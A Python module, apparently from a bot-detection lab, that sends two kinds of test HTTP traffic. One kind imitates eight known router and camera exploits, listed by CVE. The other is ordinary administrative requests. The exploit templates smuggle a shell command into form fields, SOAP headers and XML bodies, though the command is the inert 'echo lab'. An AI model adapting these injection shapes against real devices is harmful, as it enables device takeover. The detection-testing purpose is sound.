"""Who sends web requests: a bot whose requests have the shape of known exploits, and everybody else.

The exploits' shape is their path, and a shell's special character where the weak spot is. What would be the command is
``echo lab``: it fetches nothing, starts nothing and changes nothing even where there is such a weak spot, and no server
of the lab has one.
"""

from typing import Final

from botwarden.lab import igd, links, plan
from botwarden.lab.acting import Actor, Outcome
from plays import cast

Request = tuple[str, str, dict[str, str], str]
"""Method, path, headers, body."""

FORM: Final = {"Content-Type": "application/x-www-form-urlencoded"}
XML: Final = {"Content-Type": "text/xml"}
UPGRADE: Final = "<s:Envelope><s:Body><u:Upgrade><NewStatusURL>{}</NewStatusURL></u:Upgrade></s:Body></s:Envelope>"
MAPPING: Final = (
    "<s:Envelope><s:Body><u:AddPortMapping><NewExternalPort>47450</NewExternalPort>"
    "<NewInternalClient>`echo lab`</NewInternalClient></u:AddPortMapping></s:Body></s:Envelope>"
)
EXPLOITS: Final[tuple[Request, ...]] = (
    ("GET", "/shell?echo+lab", {}, ""),
    ("POST", "/GponForm/diag_Form?images/", FORM, "XWebPageName=diag&diag_action=ping&dest_host=`echo lab`&ipv=0"),
    ("POST", "/ctrlt/DeviceUpgrade_1", XML, UPGRADE.format("$(echo lab)")),
    ("POST", "/HNAP1/", {**XML, "SOAPAction": '"http://purenetworks.com/HNAP1/`echo lab`"'}, ""),
    ("GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(echo%20lab)", {}, ""),
    ("GET", "/language/Swedish${IFS}&&echo${IFS}lab", {}, ""),
    ("POST", "/picsdesc.xml", {**XML, "SOAPAction": f'"{igd.SERVICE}#AddPortMapping"'}, MAPPING),
    ("GET", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=echo+lab&curpath=/", {}, ""),
)
"""CVE-2016-20016, 2018-10562, 2017-17215, 2015-2051, 2023-1389, TVT's recorders, 2014-8361, NETGEAR's setup.cgi."""

HONEST: Final[tuple[Request, ...]] = (
    ("GET", "/", {}, ""),
    ("GET", "/api/v1/state?since=2024-03-01;limit=20", {}, ""),
    ("PUT", "/api/v1/lights/1/state", {"Content-Type": "application/json"}, '{"on": true, "note": "a; b & `c`"}'),
    ("GET", "/cgi-bin/hi3510/param.cgi?cmd=getimageattr&cmd=getserverinfo", {}, ""),
    ("GET", "/rootDesc.xml", {}, ""),
    ("POST", "/ctl/IPConn", {**XML, "SOAPAction": f'"{igd.SERVICE}#GetExternalIPAddress"'}, "<s:Envelope/>"),
    ("POST", "/HNAP1/", {**XML, "SOAPAction": '"http://purenetworks.com/HNAP1/GetDeviceSettings"'}, "<s:Envelope/>"),
    ("POST", "/ctrlt/DeviceUpgrade_1", XML, UPGRADE.format("http://cloud.camera.example/status")),
    ("POST", "/apply.cgi", FORM, "submit_button=Diagnostics&ping_ip=192.168.10.1&ping_size=32&ping_times=5"),
    ("GET", "/cgi-bin/luci/;stok=12345/locale?form=country&operation=read&country=DE", {}, ""),
    ("GET", "/language/Swedish/strings.json", {}, ""),
    ("GET", "/setup.cgi?next_file=status.htm&todo=refresh", {}, ""),
)
"""What administrators, apps and UPnP clients send: some of it to the very pages that the exploits are for."""


def send(actor: Actor, host: str, request: Request, port: int = 80) -> None:
    """One request, a connection of its own; what comes back is thrown away. Raises Refused, OSError."""
    method, path, headers, body = request
    lines = [f"{method} {path} HTTP/1.1", f"Host: {host}", "User-Agent: lab/1.0"]
    lines += [f"{name}: {value}" for name, value in headers.items()]
    lines += [f"Content-Length: {len(body)}"] if body or method != "GET" else []
    with links.connect(actor.permit, host, port) as link:
        link.sendall("\r\n".join([*lines, "Connection: close", "", body]).encode())
        while link.recv(4096):
            pass


def exploit(actor: Actor, /, *, hosts: tuple[str, ...] = plan.TELNET_HOSTS, step: int = 1) -> Outcome:
    """Each exploit, or every second or third, at one of some machines; inert."""
    chosen = EXPLOITS[:: max(step, 1)]
    for n, request in enumerate(chosen):
        send(actor, hosts[n % len(hosts)], request)
        actor.pause(20, 0.3)
    said = f"{len(chosen)} requests in the shape of as many known exploits, to {', '.join(hosts)}; inert"
    return Outcome(count=len(chosen), what=said)


def administer(actor: Actor, /) -> Outcome:
    """Honest requests to a device of the house and to a machine outside."""
    for request in HONEST:
        for host in (plan.DVR.ip, cast.OUTSIDE_IP):
            send(actor, host, request)
            actor.pause(10, 0.3)
    return Outcome(count=2 * len(HONEST), what=f"{2 * len(HONEST)} honest requests")


def look(
    actor: Actor, /, *, host: str = plan.CAMERA.ip, after: float = 0.0, times: int = 24, every: float = 120.0
) -> Outcome:
    """Look at a camera's state now and then."""
    actor.pause(after)
    for _ in range(times):
        send(actor, host, ("GET", "/status", {}, ""))
        actor.pause(every, 0.05)
    return Outcome(count=times, target=host, what=f"looks at the state of {host} {times} times")


def ask_router(actor: Actor, /) -> Outcome:
    """Ask the router how it is, and for a port, which it may refuse."""
    send(actor, plan.GATEWAY_IP, ("GET", igd.PATH, {}, ""), igd.PORT)
    for _ in range(3):
        for action in ("GetExternalIPAddress", "GetStatusInfo"):
            _soap(actor, action, f'<s:Envelope><s:Body><u:{action} xmlns:u="lab"/></s:Body></s:Envelope>')
            actor.pause(20)
    _soap(actor, "AddPortMapping", igd.request(actor.permit.source, 40_000, 40_000))
    return Outcome(count=7, target=plan.GATEWAY_IP, what="asks the router for its address and state, and for a port")


def _soap(actor: Actor, action: str, body: str) -> None:
    headers = {"Content-Type": 'text/xml; charset="utf-8"', "SOAPAction": f'"{igd.SERVICE}#{action}"'}
    send(actor, plan.GATEWAY_IP, ("POST", igd.CONTROL, headers, body), igd.PORT)
